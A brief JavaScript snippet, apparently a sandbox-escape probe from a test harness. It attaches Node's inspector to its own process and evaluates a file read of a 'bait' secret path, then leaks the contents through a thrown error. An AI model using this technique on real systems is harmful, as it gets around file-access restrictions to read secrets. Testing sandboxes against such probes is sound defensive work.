// Opens Node’s debugger on itself, and reads by what that can see.
const bait = JSON.parse('$BAIT');
const { Session } = await import('node:inspector');
const session = new Session();
session.connect();
const expression = `process.getBuiltinModule('node:fs').readFileSync(${JSON.stringify(bait.secret)}, 'utf8')`;
throw new Error(await new Promise((resolve) => session.post('Runtime.evaluate', { expression }, (_, { result }) => resolve(result.value))));
